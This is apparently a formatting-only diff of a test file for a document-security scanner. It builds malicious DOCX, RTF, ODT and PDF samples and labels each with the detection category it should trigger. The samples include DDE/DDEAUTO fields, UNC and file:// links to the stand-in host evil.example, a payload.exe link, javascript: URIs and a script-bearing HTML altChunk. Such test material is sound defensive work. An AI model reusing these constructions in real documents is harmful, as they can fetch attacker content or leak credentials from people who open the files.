@@ -682,7 +682,9 @@ def _quote_codes_dde(cached: str | None) -> bytes:
     if cached is not None:
         inner += _fc("separate") + f"<w:r><w:t>{cached}</w:t></w:r>"
     inner += _fc("end")
-    return samples.word("<w:p>" + _fc("begin") + _it(" ") + inner + _it(f" {DDE_CMD} ") + _fc("end") + "</w:p>")
+    return samples.word(
+        "<w:p>" + _fc("begin") + _it(" ") + inner + _it(f" {DDE_CMD} ") + _fc("end") + "</w:p>"
+    )
 
 
 def _odt_embedded_object(xml: str) -> bytes:
@@ -724,7 +726,9 @@ def _utf16(text: str) -> pikepdf.String:
     return pikepdf.String(b"\xfe\xff" + text.encode("utf-16-be"))
 
 
-_HTML_CHUNK = b'<html><body><img src="\\\\evil.example\\s\\x.png"><script>alert(1)</script></body></html>'
+_HTML_CHUNK = (
+    b'<html><body><img src="\\\\evil.example\\s\\x.png"><script>alert(1)</script></body></html>'
+)
 
 
 def _alt_chunk_part(name: str, content_type: str, data: bytes) -> bytes:
@@ -757,7 +761,10 @@ ROUND_TWO = {
         "file_executable",
     ),
     # F2: a nested field's cached result is not what Word computes
-    "docx-dde-nested-quote-char-codes-fake-result": (_quote_codes_dde("xyz"), "file_remote_content"),
+    "docx-dde-nested-quote-char-codes-fake-result": (
+        _quote_codes_dde("xyz"),
+        "file_remote_content",
+    ),
     "docx-dde-nested-quote-char-codes-no-result": (_quote_codes_dde(None), "file_remote_content"),
     "rtf-dde-nested-quote-char-codes": (
         _rtf(
@@ -768,20 +775,28 @@ ROUND_TWO = {
     ),
     # F3: fields that load external content
     "docx-field-link-unc": (
-        samples.word(_field('LINK Word.Document.12 "\\\\\\\\evil.example\\\\share\\\\x.docx" "" \\a \\f 0')),
+        samples.word(
+            _field('LINK Word.Document.12 "\\\\\\\\evil.example\\\\share\\\\x.docx" "" \\a \\f 0')
+        ),
         "file_remote_content",
     ),
     "docx-field-database-unc": (
-        samples.word(_field('DATABASE \\d "\\\\\\\\evil.example\\\\db\\\\x.mdb" \\s "SELECT 1" \\h')),
+        samples.word(
+            _field('DATABASE \\d "\\\\\\\\evil.example\\\\db\\\\x.mdb" \\s "SELECT 1" \\h')
+        ),
         "file_remote_content",
     ),
     "rtf-field-link-unc": (
-        _rtf('{\\field{\\*\\fldinst LINK Word.Document.8 "\\\\\\\\evil.example\\\\s\\\\x.doc" "" \\\\a}{\\fldrslt x}}'),
+        _rtf(
+            '{\\field{\\*\\fldinst LINK Word.Document.8 "\\\\\\\\evil.example\\\\s\\\\x.doc" "" \\\\a}{\\fldrslt x}}'
+        ),
         "file_remote_content",
     ),
     # F4: RTF control words read as Word reads them
     "rtf-ddeauto-in-upr-ud": (
-        _rtf("{\\field{\\*\\fldinst {\\upr{x}{\\*\\ud{DDEAUTO}}}" + f" {DDE_CMD}" + "}{\\fldrslt x}}"),
+        _rtf(
+            "{\\field{\\*\\fldinst {\\upr{x}{\\*\\ud{DDEAUTO}}}" + f" {DDE_CMD}" + "}{\\fldrslt x}}"
+        ),
         "file_remote_content",
     ),
     "rtf-fldinst-with-parameter": (
@@ -794,11 +809,17 @@ ROUND_TWO = {
     ),
     # F5: every content.xml/styles.xml of an ODF package, and all loaded frames
     "odt-unc-image-in-embedded-object": (
-        _odt_embedded_object('<draw:frame><draw:image xlink:href="\\\\evil.example\\s\\x.png"/></draw:frame>'),
+        _odt_embedded_object(
+            '<draw:frame><draw:image xlink:href="\\\\evil.example\\s\\x.png"/></draw:frame>'
+        ),
         "file_remote_content",
     ),
     "odt-floating-frame-file": (
-        _odt_content(_ODF_FRAME.format('<draw:floating-frame xlink:href="file://evil.example/share/x.html"/>')),
+        _odt_content(
+            _ODF_FRAME.format(
+                '<draw:floating-frame xlink:href="file://evil.example/share/x.html"/>'
+            )
+        ),
         "file_remote_content",
     ),
     "odt-applet-remote-archive": (
@@ -815,14 +836,23 @@ ROUND_TWO = {
         _pdf_link(pikepdf.String("payload.exe"), base="file://evil.example/share/"),
         "file_remote_content",
     ),
-    "pdf-uri-utf16-file": (_pdf_link(_utf16("file://evil.example/share/x.exe")), "file_remote_content"),
-    "pdf-uri-utf16-javascript": (_pdf_link(_utf16("javascript:app.alert(1)")), "file_active_content"),
+    "pdf-uri-utf16-file": (
+        _pdf_link(_utf16("file://evil.example/share/x.exe")),
+        "file_remote_content",
+    ),
+    "pdf-uri-utf16-javascript": (
+        _pdf_link(_utf16("javascript:app.alert(1)")),
+        "file_active_content",
+    ),
     "pdf-uri-leading-nul-file": (
         _pdf_link(pikepdf.String(b"\x00file://evil.example/x")),
         "file_remote_content",
     ),
     # F7: an HTML or MHT altChunk is a web page inside the document
-    "docx-altchunk-html": (_alt_chunk_part("afchunk.htm", "text/html", _HTML_CHUNK), "file_active_content"),
+    "docx-altchunk-html": (
+        _alt_chunk_part("afchunk.htm", "text/html", _HTML_CHUNK),
+        "file_active_content",
+    ),
     "docx-altchunk-mht": (
         _alt_chunk_part(
             "afchunk.mht",
